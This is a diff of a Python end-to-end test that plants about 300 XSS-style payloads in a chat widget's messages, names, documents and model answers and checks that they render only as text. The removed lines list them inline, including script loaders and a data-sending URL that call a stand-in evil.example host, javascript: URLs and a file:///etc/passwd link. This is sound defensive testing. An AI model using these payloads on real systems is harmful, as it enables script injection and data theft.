@@ -1,139 +1,397 @@
-"""Some 300 texts that want to become markup, scripts or requests, wherever a text can stand."""
+"""Some 300 texts that want to become markup, scripts or requests, wherever a text can stand.
 
-from itertools import product
+As messages, names, documents and a model's words, each is looked for on the pages that show it: it was
+there to be read, and nothing ran, nobody else was asked and no policy had to step in.
+"""
+
+import json
+import re
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
 from typing import Any
 
-from playwright.sync_api import Browser, Page, expect
+import httpx2
+import pytest
+from playwright.sync_api import Browser, ViewportSize, expect
 
+from graphs.safety.cleaning import cleaned
+from tenants.desk.teams import MAX_TEAMS
 from tests.e2e.browsing import WIDE, PageTenant
-from tests.e2e.console_visit import link, operator
-from tests.e2e.server_process import within
-from tests.e2e.widget_site import allow, site, visit
+from tests.e2e.console_visit import link
+from tests.e2e.payloads import PAYLOADS, Suspect, found_in, numbered, on_one_line, packed, suspected
+from tests.e2e.server_process import ServerProcess, within
+from tests.e2e.widget_site import Visit, allow, site
+from tests.openai_loopback import Loopback, Reply, openai_loopback
 
-_TAGS = (
-    "img src=x,svg,video src=x,audio src=x,body,iframe,input autofocus,details open,marquee,"
-    "object data=x,math,a href=x,button,form,select autofocus"
-).split(",")
-_EVENTS = "onerror onload onfocus ontoggle onmouseover onanimationstart".split()
-_BREAKS = ("", '">', "'>", "</p>", "]]>", "-->", "</title>", "</textarea>")
-_SCRIPTS = (
-    "<script>alert(1)</script>",
-    "<ScRiPt >alert(1)</sCrIpT>",
-    "<script src=//evil.example/x.js></script>",
-    "<<script>alert(1)//<</script>",
-    "<svg><script>alert(1)</script></svg>",
-    "<script type=module>import('//evil.example/x.js')</script>",
-)
-_ADDRESSES = (
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:x",
-    "//evil.example/x",
-    "https://evil.example/?q=secret",
-    "\\\\evil.example\\x",
-    "blob:https://evil.example/1",
-    "file:///etc/passwd",
-)
-_FORMS = (
-    "[a]({})", "![a]({})", "<{}>", '<a href="{}">a</a>', '<img src="{}">', "[a][1]\n[1]: {}",
-    '<link rel=prefetch href="{}">', '<meta http-equiv=refresh content="0;url={}">',
-    '<style>@import "{}";</style>', '<div style="background:url({})">', '<base href="{}">',
-    '<form action="{}"><button>', '<svg><use href="{}"/></svg>', '<object data="{}">',
-    '<iframe srcdoc="<img src={}>">', '<embed src="{}">',
-)  # fmt: skip
-_ENCODED = (
-    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "%3Cscript%3Ealert(1)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)", "\u202e<script>",
-)  # fmt: skip
-PAYLOADS = [
-    *(f"<{tag} {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)),
-    *(opening + script for opening, script in product(_BREAKS, _SCRIPTS)),
-    *(form.replace("{}", address) for form, address in product(_FORMS, _ADDRESSES)),
-    *_ENCODED,
-]
-# Elements that load or run, handlers, and addresses; a link that a person may tap is none of them
-# as long as it is one of the web, in a tab of its own that knows nothing of ours.
-_TAKEN = """() => [...document.querySelectorAll('*')].flatMap((e) => [
-    ...(/^(script|iframe|object|embed|base|meta|link|style)$/i.test(e.tagName) &&
-        !(e.src || e.href || '').startsWith(location.origin + '/web/') ? [e.outerHTML] : []),
-    ...[...e.attributes].filter((a) => /^on|^srcdoc$|^action$/i.test(a.name) ||
-        (a.name === 'style' && /url/i.test(a.value)) ||
-        (a.name === 'src' && !e.src.startsWith(location.origin)) ||
-        (a.name === 'href' && /evil|script:|data:|file:/i.test(a.value) &&
-            !(e.protocol === 'https:' && /noopener/.test(e.rel) && e.target === '_blank')))
-        .map((a) => `${e.tagName} ${a.name}=${a.value}`)])"""
+TALL: ViewportSize = {"width": 1280, "height": 6_000}  # long lists draw what can be seen alone
+_STEERS = re.compile(r"[\x00-\x1f\u202e]")
+MAX_DISCLAIMERS = 10  # of an assistant
+ALL = set(range(len(PAYLOADS)))
+# What a cleaner that waits for an end takes the rest of an answer for: nothing may follow it.
+_UNENDED = re.compile(r"^\W*<(svg|iframe|object|script)\b(?!.*</\1)", re.IGNORECASE)
+_BY_MODEL = {"curated": {"enabled": False}, "handoff": {"enabled": False}}
+_SETTINGS = {
+    "FRONTDESK_MODEL": "deepseek:deepseek-chat",
+    "DEEPSEEK_API_KEY": "x",
+    "FRONTDESK_REQUESTS_PER_SECOND": "10000",
+    "FRONTDESK_REQUESTS_PER_SECOND_PER_ADDRESS": "10000",
+    "FRONTDESK_TURNS_PER_SECOND": "10000",
+    "FRONTDESK_TURNS_PER_SECOND_PER_CONTACT": "10000",
+}
 
 
-def _batches() -> list[str]:
-    """All of them as few messages as a message's length allows."""
-    texts = [""]
-    for payload in PAYLOADS:
-        if len(texts[-1]) + len(payload) > 6_000:
-            texts.append("")
-        texts[-1] += payload + "\n"
-    return texts
+@pytest.fixture(scope="module")
+def model() -> Iterator[Loopback]:
+    """A model that knows nothing until a test tells it what to say."""
+    with openai_loopback(Reply(["NONE"])) as loopback:
+        yield loopback
 
 
-def _elements(page: Any) -> set[str]:
-    return set(page.evaluate(_TAKEN))
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory, model: Loopback) -> Iterator[ServerProcess]:
+    settings = _SETTINGS | {"DEEPSEEK_API_BASE": model.base_url}
+    process = ServerProcess(tmp_path_factory.mktemp("payloads") / "data", settings).start()
+    yield process
+    assert process.stop() == 0
 
 
-def _spread(tenant: PageTenant) -> None:
-    """Put them where operators meet texts of others: documents, canned answers, names, notes."""
-    assistant = tenant.call("GET", f"/v1/assistants/{tenant.assistant_id}")
-    base = f"/v1/knowledge-bases/{assistant['knowledge_base_ids'][0]}"
-    tenant.call("PATCH", base, {"name": PAYLOADS[0]})
-    for number, text in enumerate(_batches()):
-        tenant.call("POST", f"{base}/documents", {"title": text[:200], "text": text})
-        canned = {"shortcut": f"{number} {PAYLOADS[number]}", "text": text}
-        tenant.call("POST", "/v1/canned-answers", canned)
-    look = {"greeting": PAYLOADS[0], "launcher": "", "suggestions": PAYLOADS[90:94]}
-    persona = {"name": PAYLOADS[100], "instructions": _batches()[0][:4_000]}
-    change = {"widget": look, "persona": persona, "name": PAYLOADS[95]}
-    tenant.call("PATCH", f"/v1/assistants/{tenant.assistant_id}", change)
+@dataclass
+class Company(PageTenant):
+    """A tenant that can be renamed, and its knowledge."""
+
+    server: ServerProcess
+    tenant_id: str
+    program: httpx2.Client  # one line for all calls: there are hundreds
+
+    def call(self, method: str, path: str, body: Any = None) -> Any:
+        answered = self.program.request(method, path, json=body)
+        assert answered.is_success, answered.text
+        return answered.json() if answered.content else None
+
+    def rename(self, name: str) -> None:
+        headers = {"Authorization": f"Bearer {self.server.platform_key}"}
+        path = f"{self.url}/v1/tenants/{self.tenant_id}"
+        answered = httpx2.patch(path, headers=headers, json={"name": name}, timeout=60)
+        assert answered.is_success, answered.text
+
+    @property
+    def documents(self) -> str:
+        assistant = self.call("GET", f"/v1/assistants/{self.assistant_id}")
+        return f"/v1/knowledge-bases/{assistant['knowledge_base_ids'][0]}/documents"
+
+    def refuses(self, path: str, body: Any) -> bool:
+        """Whether what names a thing is no name to us."""
+        return self.program.post(path, json=body).status_code == 422
 
 
-def test_no_text_becomes_a_script_an_element_or_a_request(
-    browser: Browser, page_tenant: PageTenant
-) -> None:
+@pytest.fixture
+def company(server: ServerProcess, model: Loopback) -> Iterator[Company]:
+    model.choose = None
+    platform = {"Authorization": f"Bearer {server.platform_key}"}
+    body = {"name": "Fern & Kiln"}
+    made = httpx2.post(f"{server.url}/v1/tenants", headers=platform, json=body, timeout=60).json()
+    headers = {"Authorization": f"Bearer {made['api_key']}"}
+    with httpx2.Client(base_url=server.url, headers=headers, timeout=60) as program:
+        yield Company(
+            server.url, made["api_key"], made["assistant_id"], server, made["tenant_id"], program
+        )
+
+
+def _told(kind: str, suspect: Suspect, count: int) -> None:
+    """The figures of one surface, kept with the test's output."""
+    sys.stdout.write(
+        f"{count} payloads as {kind}: {len(suspect.scripts)} scripts,"
+        f" {len(suspect.requests)} outside requests, {len(suspect.violations)} CSP violations,"
+        f" {len(suspect.elements)} elements\n"
+    )
+
+
+def _signed_in(suspect: Suspect, tenant: Company, role: str = "owner") -> set[str]:
+    """What the console itself is made of, before it shows anything of others."""
+    suspect.page.goto(link(tenant, name=role.title(), role=role))
+    expect(suspect.page.get_by_role("heading", name="Inbox")).to_be_visible()
+    return suspect.elements_of(suspect.page)
+
+
+def _opened(suspect: Suspect, address: str, last: str) -> None:
+    """A page, once its last text is there."""
+    suspect.page.goto(address)
+    expect(suspect.page.locator("body")).to_contain_text(last)
+
+
+def test_messages_and_documents_stay_texts(browser: Browser, company: Company) -> None:
     assert len(PAYLOADS) >= 300
-    _spread(page_tenant)
-    with site(page_tenant.url, page_tenant.assistant_id) as where:
-        allow(page_tenant, where)
-        with visit(browser, page_tenant.url, where, WIDE) as here:
+    texts = packed(numbered().values(), 6_000)
+    for number, text in enumerate(texts):
+        company.call("POST", company.documents, {"title": f"Batch {number}", "text": text})
+        company.call("POST", "/v1/canned-answers", {"shortcut": f"c{number}", "text": text})
+    with site(company.url, company.assistant_id) as where:
+        allow(company, where)
+        with suspected(browser, company.url, where, viewport=WIDE) as suspect:
+            suspect.page.goto(where)
+            here = Visit(suspect.page, company.url)
             here.open()
-            [frame] = [f for f in here.page.frames if "/widget/" in f.url]
-            before = _elements(frame)
-            for number, text in enumerate(_batches(), 1):
+            plain = suspect.elements_of(here.frame)
+            for number, text in enumerate(texts, 1):
                 here.say(text)
                 here.expect_lines("contact", number)
+            assert suspect.look(here.frame, plain=plain) == ALL
             waiting = "/v1/handoffs?status=waiting"  # it looks unsafe: a person is asked
-            assert within(90, lambda: page_tenant.call("GET", waiting)["data"] != [])
-            [handoff] = page_tenant.call("GET", waiting)["data"]
-            path = f"/v1/handoffs/{handoff['handoff_id']}/messages"
-            for number, text in enumerate(_batches(), 1):
-                page_tenant.call("POST", path, {"text": text})
+            assert within(90, lambda: company.call("GET", waiting)["data"] != [])
+            [handoff] = company.call("GET", waiting)["data"]
+            talk = f"/v1/conversations/{handoff['conversation_id']}"
+            for number, text in enumerate(texts, 1):
+                path = f"/v1/handoffs/{handoff['handoff_id']}/messages"
+                company.call("POST", path, {"text": text})
+                company.call("POST", f"{talk}/notes", {"text": text})
                 here.expect_lines("operator", number)
-            expect(here.chat.locator(".log")).to_contain_text(PAYLOADS[0])
-            assert _elements(frame) == before
-    talk = f"/v1/conversations/{handoff['conversation_id']}"
-    page_tenant.call("POST", f"{talk}/notes", {"text": _batches()[0]})
-    with operator(browser, link(page_tenant)) as page:
-        page.on("dialog", lambda dialog: dialog.accept())
-        _look_around(page, page_tenant, handoff)
+            said = here.chat.locator(".log [data-author=operator]").all_text_contents()
+            assert suspect.look(here.frame, plain=plain) == ALL
+            assert found_in("".join(said)) == ALL  # a Markdown's reader drew these
+            _told("messages", suspect, len(ALL))
+    with suspected(browser, company.url, viewport=WIDE) as suspect:
+        plain = _signed_in(suspect, company)
+        for path in (
+            f"inbox/{handoff['handoff_id']}",
+            f"conversations/{handoff['conversation_id']}",
+            "settings/canned",
+        ):
+            _opened(suspect, f"{company.url}/console/{path}", "p303: ")
+            assert suspect.look(plain=plain) == ALL, path
+    with suspected(browser, company.url, viewport=WIDE) as suspect:
+        plain = _signed_in(suspect, company, "viewer")  # who reads passages, and changes no words
+        suspect.page.goto(f"{company.url}/console/knowledge")
+        read: set[int] = set()
+        for number in range(len(texts)):
+            suspect.page.get_by_role("button", name=f"Open Batch {number}").click()
+            expect(suspect.page.get_by_role("list", name="Passages")).to_be_visible()
+            read |= suspect.look(plain=plain)
+        assert read == ALL
+        _told("documents", suspect, len(read))
 
 
-def _look_around(page: Page, tenant: PageTenant, handoff: Any) -> None:
-    before = _elements(page)
-    for path, words in (
-        (f"inbox/{handoff['handoff_id']}", PAYLOADS[0]),
-        (f"conversations/{handoff['conversation_id']}", PAYLOADS[0]),
-        ("knowledge", "passages"),
-        ("settings/canned", "onerror"),
-        (f"assistants/{tenant.assistant_id}", PAYLOADS[95]),
-    ):
-        page.goto(f"{tenant.url}/console/{path}")
-        expect(page.locator("#root")).to_contain_text(words)
-        assert _elements(page) == before, path
+def test_names_stay_names(browser: Browser, company: Company) -> None:
+    names = packed(on_one_line().values(), 200, " ")
+    contacts = packed(on_one_line().values(), 300, " ")
+    talks = [_named_contact(company, name) for name in contacts]
+    assistants = [_named_assistant(company, name) for name in names]
+    companies = [*names[len(names) // 2 :], *names[: len(names) // 2]]
+    for name in names:
+        company.call("POST", "/v1/knowledge-bases", {"name": name})
+        company.call("POST", "/v1/api-keys", {"name": name, "scopes": ["knowledge"]})
+    for title in packed(on_one_line().values(), 500, " "):
+        company.call("POST", company.documents, {"title": title, "text": "A cup."})
+    with suspected(browser, company.url, viewport=TALL) as suspect:
+        plain = _signed_in(suspect, company)
+        base = company.documents.split("/")[3]
+        for path, where in (
+            (f"knowledge?base={base}", "main ul"),  # titles
+            ("knowledge", "main select"),
+            ("settings/keys", "main"),
+            (f"assistants/{company.assistant_id}", "main select"),
+        ):
+            suspect.page.goto(f"{company.url}/console/{path}")
+            there = suspect.page.locator(where).first
+            expect(there).to_contain_text("p303: ")
+            suspect.look(plain=plain)
+            assert found_in(there.text_content() or "") == ALL, path
+        _opened(suspect, f"{company.url}/console/conversations", "p303: ")
+        read: set[int] = set()
+        for talk, name in zip(talks, contacts, strict=True):
+            suspect.page.locator(f"a[href*='{talk}']").click()
+            suspect.page.get_by_role("button", name="Contact", exact=True).click()
+            expect(suspect.page.locator("aside h2")).to_have_text(name)
+            read |= suspect.look(plain=plain)
+        assert read == ALL
+        read = set()
+        for some in (names[:MAX_TEAMS], names[MAX_TEAMS:]):
+            teams = [company.call("POST", "/v1/teams", {"name": name}) for name in some]
+            _opened(suspect, f"{company.url}/console/settings/teams", some[-1])
+            read |= suspect.look(plain=plain)
+            for team in teams:
+                company.call("DELETE", f"/v1/teams/{team['team_id']}")
+        assert read == ALL
+        _told("names in the console", suspect, len(read))
+    with suspected(browser, company.url, viewport=WIDE) as suspect:
+        suspect.page.goto(f"{company.url}/widget/{company.assistant_id}")
+        expect(suspect.page.get_by_role("heading")).to_be_visible()
+        plain, read = suspect.elements_of(suspect.page), set()
+        halves = list(zip(assistants, names, companies, strict=True))[: len(names) // 2 + 1]
+        for assistant_id, name, other in halves:
+            company.rename(other)
+            suspect.page.goto(f"{company.url}/widget/{assistant_id}")
+            expect(suspect.page.get_by_role("heading")).to_contain_text(name.split()[0])
+            read |= suspect.look(plain=plain)
+        assert read == ALL
+        _told("names in the widget", suspect, len(read))
+
+
+def test_what_is_no_name_is_none_and_the_rest_is_read_as_it_is(
+    browser: Browser, company: Company
+) -> None:
+    """Contacts see operators' names in mails too, where a reader's program makes links and markup."""
+    taken = {
+        number: text
+        for number, text in on_one_line().items()
+        if not company.refuses("/v1/operators", _operator(number, text))
+    }
+    assert 0 < len(taken) < 50
+    for text in taken.values():
+        assert not re.search(r"[<>\[\]`|]|://", text)
+    steered = [text for text in numbered().values() if _STEERS.search(text)]
+    assert len(steered) > 20
+    for text in steered:
+        for path in ("/v1/assistants", "/v1/knowledge-bases", "/v1/teams"):
+            assert company.refuses(path, {"name": text}), text
+    with suspected(browser, company.url, viewport=TALL) as suspect:
+        plain = _signed_in(suspect, company)
+        _opened(suspect, f"{company.url}/console/settings/people", f"p{max(taken)}: ")
+        assert suspect.look(plain=plain) == set(taken)
+        _told("names of operators, the others refused", suspect, len(taken))
+
+
+def _operator(number: int, name: str) -> dict[str, str]:
+    return {"name": name, "email": f"p{number}@a.example"}
+
+
+def _named_contact(company: Company, name: str) -> str:
+    body = {"assistant_id": company.assistant_id, "contact": {"name": name}}
+    return company.call("POST", "/v1/conversations", body)["conversation_id"]
+
+
+def _named_assistant(company: Company, name: str) -> str:
+    made = company.call("POST", "/v1/assistants", {"name": name})
+    look = {
+        "greeting": f"{name}\n{name[::-1]}"[:400],
+        "launcher": name[:120],
+        "suggestions": [name[:120]],
+    }
+    body = {"persona": {"name": name}, "widget": look}
+    company.call("PATCH", f"/v1/assistants/{made['assistant_id']}", body)
+    return made["assistant_id"]
+
+
+def test_a_models_words_stay_words(browser: Browser, company: Company, model: Loopback) -> None:
+    """What a model writes is cleaned, or withheld where its addresses stand nowhere: none is lost."""
+    answers = _answers()
+    _teach_shelves(company, answers)
+    model.choose = lambda request: _said(request, answers)
+    with site(company.url, company.assistant_id) as where:
+        allow(company, where, **_BY_MODEL, answering={"streaming": "tokens"})
+        with suspected(browser, company.url, where, viewport=WIDE) as suspect:
+            suspect.page.goto(where)
+            here = Visit(suspect.page, company.url)
+            here.open()
+            plain = suspect.elements_of(here.frame)
+            _asks(here, answers, 0)
+            shown = _shelves(here.lines("assistant"))
+            assert len(shown) > 280
+            alone = {100 + number: [number] for number in ALL - shown}  # an answer had broken off
+            _teach_shelves(company, alone)
+            answers |= alone
+            _asks(here, alone, len(answers) - len(alone))
+            assert suspect.look(here.frame, plain=plain) == set()
+            shown = _shelves(here.lines("assistant"))
+    [talk] = company.call("GET", "/v1/conversations")["data"]
+    with suspected(browser, company.url, viewport=WIDE) as suspect:
+        plain = _signed_in(suspect, company)
+        suspect.page.goto(f"{company.url}/console/conversations/{talk['conversation_id']}")
+        why = suspect.page.get_by_role("button", name="Why?")
+        expect(why).to_have_count(len(answers))
+        told = [suspect.page.locator("main").inner_text()]
+        for at in range(len(answers) - len(alone), len(answers)):
+            why.nth(at).click()
+            steps = suspect.page.get_by_label("Why it answered so").locator("pre")
+            expect(steps.last).to_be_attached()
+            told.append(" ".join(steps.all_text_contents()))
+            suspect.look(plain=plain)
+        assert shown <= _shelves(told[:1])
+        withheld = _shelves(told) - shown
+        assert len(withheld) < 10 and shown | withheld == ALL
+        _told(f"a model's words ({len(withheld)} of them withheld)", suspect, len(ALL))
+
+
+def test_what_every_answer_must_hold_stays_words(
+    browser: Browser, company: Company, model: Loopback
+) -> None:
+    """A tenant's disclaimers are not cleaned: as a machine's words they are drawn as they are."""
+    answers = {0: [0]}
+    _teach_shelves(company, answers)
+    model.choose = lambda request: _said(request, answers)
+    bases = company.call("GET", f"/v1/assistants/{company.assistant_id}")["knowledge_base_ids"]
+    laid_down = packed(numbered().values(), 1_000)
+    halves = [laid_down[:MAX_DISCLAIMERS], laid_down[MAX_DISCLAIMERS:]]
+    read: set[int] = set()
+    with suspected(browser, company.url, viewport=WIDE) as suspect:
+        for half in halves:
+            said = [{"name": f"d{n}", "text": {"en": one}} for n, one in enumerate(half)]
+            made = company.call("POST", "/v1/assistants", {"name": "Mia"})
+            body = {"knowledge_base_ids": bases, "answering": {"disclaimers": said}}
+            company.call("PATCH", f"/v1/assistants/{made['assistant_id']}", body | _BY_MODEL)
+            suspect.page.goto(f"{company.url}/widget/{made['assistant_id']}")
+            field = suspect.page.get_by_role("textbox")
+            expect(field).to_be_visible()
+            plain = suspect.elements_of(suspect.page)
+            field.fill(_asked(0))
+            field.press("Enter")
+            expect(suspect.page.locator(".log [data-author=assistant]")).to_have_count(1)
+            read |= suspect.look(plain=plain)
+        assert read == ALL
+    talks = company.call("GET", "/v1/conversations")["data"]
+    assert len(talks) == len(halves)
+    with suspected(browser, company.url, viewport=WIDE) as suspect:
+        plain, read = _signed_in(suspect, company), set()
+        for talk in talks:
+            _opened(
+                suspect, f"{company.url}/console/conversations/{talk['conversation_id']}", "Why?"
+            )
+            read |= suspect.look(plain=plain)
+        assert read == ALL
+        _told("what every answer must hold", suspect, len(read))
+
+
+def _answers() -> dict[int, list[int]]:
+    """The payloads of each answer; one that takes what follows with it is the last."""
+    answers: dict[int, list[int]] = {}
+    ended = [n for n in ALL if not _UNENDED.match(PAYLOADS[n])]
+    unended = [n for n in ALL if _UNENDED.match(PAYLOADS[n])]
+    share = -(-len(ended) // len(unended))
+    for number, last in enumerate(unended):
+        answers[number] = [*ended[number * share : (number + 1) * share], last]
+    return answers
+
+
+def _asked(number: int) -> str:
+    return f"What stands on shelf list {number}?"
+
+
+def _asks(here: Visit, answers: dict[int, list[int]], before: int) -> None:
+    for count, number in enumerate(answers, before + 1):
+        here.say(_asked(number))
+        here.expect_lines("assistant", count)
+
+
+def _teach_shelves(company: Company, answers: dict[int, list[int]]) -> None:
+    """Passages that say what will be left of a model's words, so that they carry it."""
+    for number, said in answers.items():
+        passages = "\n".join(_sentence(n, cleaned(PAYLOADS[n], ())) for n in said)
+        entry = {"question": _asked(number), "answer": passages}
+        company.call("POST", company.documents, entry)
+
+
+def _shelves(texts: list[str]) -> set[int]:
+    return set(map(int, re.findall(r"shelf q(\d+)", " ".join(texts))))
+
+
+def _sentence(number: int, payload: str) -> str:
+    return f"The blue cup stands on shelf q{number} {payload} and waits there."
+
+
+def _said(request: dict[str, Any], answers: dict[int, list[int]]) -> Reply:
+    """What the model writes to a question, in pieces that end anywhere."""
+    asked = re.findall(r"shelf list (\d+)", json.dumps(request["messages"][-1]["content"]))
+    if request.get("response_format") or not asked:
+        return Reply(["NONE"])
+    said = " [1]\n".join(_sentence(n, PAYLOADS[n]) for n in answers[int(asked[-1])]) + " [1]"
+    return Reply([said[at : at + 11] for at in range(0, len(said), 11)])
